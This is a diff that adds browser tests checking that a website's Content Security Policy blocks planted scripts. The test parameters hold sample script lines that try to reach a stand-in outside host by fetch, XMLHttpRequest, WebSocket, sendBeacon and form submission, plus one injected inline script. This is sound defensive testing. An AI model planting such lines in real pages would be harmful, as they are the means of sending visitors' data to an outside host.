@@ -66,3 +66,51 @@ def test_a_planted_fault_in_a_script_is_heard(page: Page, own_copy: Copy, script
     own_copy.change(HOME, "</body>", '<script src="assets/js/planted.js"></script></body>')
     page.open(HOME, site=own_copy)
     page.until(comes(page.complaints, words), words)
+
+
+@pytest.mark.parametrize(
+    ("script", "refusal"),
+    [
+        pytest.param(
+            "fetch('http://outside.example/x').catch(() => {})",
+            "policy refused connect-src: http://outside.example/x",
+            id="a request",
+        ),
+        pytest.param(
+            "const asked = new XMLHttpRequest(); asked.open('GET', 'http://outside.example/x'); asked.send()",
+            "policy refused connect-src: http://outside.example/x",
+            id="a request of the older kind",
+        ),
+        pytest.param(
+            "try { new WebSocket('ws://outside.example/x') } catch { /* Firefox throws at once */ }",
+            "policy refused connect-src: ws://outside.example/x",
+            id="a line kept open",
+        ),
+        pytest.param(
+            "navigator.sendBeacon('http://outside.example/x', 'words')",
+            "policy refused connect-src: http://outside.example/x",
+            id="a beacon",
+        ),
+        pytest.param(
+            "const form = document.createElement('form'); form.method = 'post'; form.action = 'http://outside.example/x'; "
+            "document.body.append(form); form.submit()",
+            "policy refused form-action: http://outside.example/x",
+            id="a form sent",
+        ),
+    ],
+)
+def test_what_a_planted_script_would_send_is_refused_by_the_policy(
+    page: Page, own_copy: Copy, script: str, refusal: str
+) -> None:
+    (own_copy.root / "assets/js/planted.js").write_text(script, encoding="utf-8")
+    own_copy.change(HOME, "</body>", '<script src="assets/js/planted.js"></script></body>')
+    page.open(HOME, site=own_copy)
+    page.until(comes(page.complaints, refusal), refusal)
+    assert page.outside() == []
+
+
+def test_a_script_written_into_a_page_does_not_run(page: Page, own_copy: Copy) -> None:
+    own_copy.change(HOME, "</body>", "<script>document.documentElement.dataset.planted = 1</script></body>")
+    page.open(HOME, site=own_copy)
+    assert any("policy refused script-src" in each for each in page.complaints())
+    assert page.run("return document.documentElement.dataset.planted") is None
